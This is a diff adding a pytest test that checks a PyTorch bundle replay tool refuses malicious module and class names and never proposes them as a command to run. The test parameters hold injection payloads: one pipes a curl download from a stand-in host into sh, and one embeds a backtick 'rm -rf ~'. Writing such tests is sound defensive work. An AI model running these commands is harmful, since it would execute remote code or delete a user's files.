@@ -205,3 +205,23 @@ def test_a_bundle_holding_a_crafted_sparse_tensor_is_refused(tmp_path, kind):
     p = subprocess.run([sys.executable, "-m", "nanhunt", "replay", str(path)], capture_output=True, text=True,
                        timeout=120)
     assert p.returncode == 2 and "cannot be read as a nanhunt bundle" in p.stderr, (p.returncode, p.stderr)
+
+
+@pytest.mark.parametrize(("path", "name", "says"), [
+    ("x; curl -s evil.example/p | sh #", "Block", "invalid class"),
+    ("mymodels", "Block`rm -rf ~`", "invalid class"),
+    ("code", "interact", "--module your_module:interact)"),
+])
+def test_a_bundles_names_never_make_a_command_to_run(tmp_path, path, name, says):
+    """The error for a class outside torch.nn proposed a command line built from the file's own
+    names, unquoted: `--module x; curl -s evil.example/p | sh #:Block`, or `--module code:interact`
+    (which runs the standard library's interactive console). Names are Python names or refused; a
+    module of the standard library or torch is never proposed."""
+    saved = save_bundle(tmp_path / "b.pt", nn.Linear(2, 2), (torch.ones(2),))
+    data = load(saved)
+    data["tree"]["module_path"], data["tree"]["module_type"] = path, name
+    with pytest.raises(BundleError) as ei:
+        replay(data)
+    msg = str(ei.value)
+    assert says in msg and "--module code:" not in msg, msg
+    assert says != "invalid class" or "command line" not in msg, msg
